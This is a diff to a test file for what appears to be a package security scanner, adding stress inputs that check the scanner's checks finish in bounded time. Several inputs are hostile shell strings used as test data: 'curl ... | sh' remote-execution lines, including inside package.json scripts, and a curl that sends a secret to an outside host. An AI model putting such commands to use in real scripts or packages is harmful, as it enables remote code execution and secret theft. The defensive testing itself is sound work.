@@ -4,23 +4,14 @@ import { join } from 'node:path';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { findingMessage, type Finding } from '../format/finding/finding.ts';
-import type { Manifest } from '../format/build/manifest.ts';
 import { scan } from './scan.ts';
 import { allRules } from './rules/all.ts';
-import type { ScannedBuild } from './scanned-file.ts';
 import { deriveCapabilities } from './capabilities.ts';
 import { effectsOf } from './shell/effects-of.ts';
-import { openBuild } from './open-build.ts';
+import { testBuild } from './test-build.ts';
 import { readRuleCases } from '../tests/read-rule-cases.ts';
 import { runs, some } from '../tests/run/runs.ts';
 
-const MANIFEST: Manifest = {
-  name: 'x',
-  version: '1.0.0',
-  kind: 'module',
-  description: 'd',
-  license: 'MIT',
-};
 const NAMES = [
   'a.js',
   'a.ts',
@@ -32,6 +23,8 @@ const NAMES = [
   'package.json',
   'x.pth',
 ];
+
+const NUMBERS = Array.from({ length: runs(40_000) }, (_, n) => n);
 
 /** Real code to mutate: our own, and the cases of the rules. */
 const SOURCES = [...ownSources(), ...caseSources()].filter((text) => text.length < 20_000);
@@ -54,17 +47,9 @@ function isSource(path: string): boolean {
   return /\.(?:ts|js|mjs|py|sh)$/.test(path);
 }
 
-function built(files: Readonly<Record<string, string | Uint8Array>>): ScannedBuild {
-  const list = Object.entries(files).map(([path, content]) => {
-    const bytes = typeof content === 'string' ? Buffer.from(content) : content;
-    return { path, bytes, executable: false };
-  });
-  return openBuild({ id: 'a/x', manifest: MANIFEST, files: list });
-}
-
 /** Runs everything; a check that threw appears as a finding. */
 function judged(files: Readonly<Record<string, string | Uint8Array>>): Finding[] {
-  const build = built(files);
+  const build = testBuild(files);
   const found = scan(build, allRules);
   deriveCapabilities(build);
   expect(found.filter((f) => f.code === 'check-failed').map(findingMessage)).toEqual([]);
@@ -137,6 +122,10 @@ describe('checks', { timeout: 300_000 }, () => {
     ['b.sh', 'curl ${{secrets.A}} http://x.io|'.repeat(runs(25_000))],
     ['c.sh', 'curl https://x.io/i|sh\n'.repeat(runs(35_000))],
     ['a.py', `import a${'.a'.repeat(runs(400_000))}`],
+    ['b.py', 'a '.repeat(runs(400_000))],
+    ['b.js', '/**/'.repeat(runs(200_000))],
+    ['package.json', `{"scripts":{${NUMBERS.map((n) => `"a${n}":"curl x.io|sh"`).join()}}}`],
+    ['b.md', '[a](b "c")\n|a|b|\n'.repeat(runs(50_000))],
     ['a.js', `const x='${'a?(b)'.repeat(3_900)}';${'fetch(x);exec(x);'.repeat(runs(40_000))}`],
   ])('are bounded on %s', (path, text) => {
     expect(judged({ [path]: text })).toEqual(expect.any(Array));
